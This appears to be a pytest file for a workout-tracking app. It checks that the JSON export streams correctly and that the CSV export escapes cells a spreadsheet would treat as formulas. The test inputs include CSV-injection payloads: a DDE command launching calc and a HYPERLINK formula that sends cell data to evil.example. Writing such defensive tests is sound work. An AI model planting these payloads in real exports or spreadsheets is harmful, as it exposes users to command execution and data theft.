"""The export as written a session at a time: the same text as before, and spreadsheet-safe CSV."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from app.core.exercise import exercise_for
from app.storage.checkin import check_in
from app.storage.csv_cells import safe_cell
from app.storage.database import SessionLog, open_log
from app.storage.export import export_csv, write_json
from app.storage.json_stream import write_document
from tests.history_seed import seed_history
from tests.storage.workouts import berlin, record


def test_the_streamed_json_is_exactly_what_dumping_it_whole_gives(tmp_path: Path) -> None:
    seed_history(tmp_path / "plank-timer.sqlite3", days=120)
    with open_log(tmp_path) as log:
        out = io.StringIO()
        write_json(log, out)
    text = out.getvalue()
    assert text == json.dumps(json.loads(text), indent=2, ensure_ascii=False) + "\n"


@pytest.mark.parametrize(
    "sections",
    [[], [("empty", [])], [("one", [{"a": [1, {"b": None}]}]), ("two", [1, "ü", []])]],
)
def test_any_document_streams_as_json_dumps_would_write_it(
    sections: list[tuple[str, list[object]]],
) -> None:
    head = {"format": "x", "version": 1}
    out = io.StringIO()
    write_document(out, head, [(name, iter(items)) for name, items in sections])
    whole = {**head, **dict(sections)}
    assert out.getvalue() == json.dumps(whole, indent=2, ensure_ascii=False) + "\n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_a_spreadsheet_would_run_as_a_formula_are_made_text(
    log: SessionLog, start: str
) -> None:
    name = f"{start}cmd|' /C calc'!A0"
    note = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    session = record(log, berlin(2024, 5, 1, 7), rounds=1, exercises=[exercise_for(name)])
    check_in(log, session, back_pain=None, note=note)
    out = io.StringIO(newline="")
    export_csv(log, out)
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert (row["exercise"], row["note"]) == ("'" + name, "'" + note)


@pytest.mark.parametrize("start", ["\t", "\r"])
def test_a_tab_or_carriage_return_at_the_start_of_a_cell_is_made_text_too(start: str) -> None:
    # Names and notes cannot hold them (see names), but the rule is OWASP's whole list.
    assert safe_cell(f"{start}=1+1") == f"'{start}=1+1"
    assert safe_cell("plank") == "plank"


def test_a_run_file_named_like_a_formula_is_made_text_in_the_runs_csv(log: SessionLog) -> None:
    from datetime import UTC, datetime

    from app.core.run import Run, Sport
    from app.storage.run_format import export_runs_csv
    from app.storage.runs import RunStore

    started = datetime(2025, 3, 20, 7, tzinfo=UTC)
    RunStore(log).add_runs([Run(started, 1800.0, Sport.RUN, source_name="=HYPERLINK(1).fit")])
    out = io.StringIO(newline="")
    export_runs_csv(log, out)
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["source_name"] == "'=HYPERLINK(1).fit"
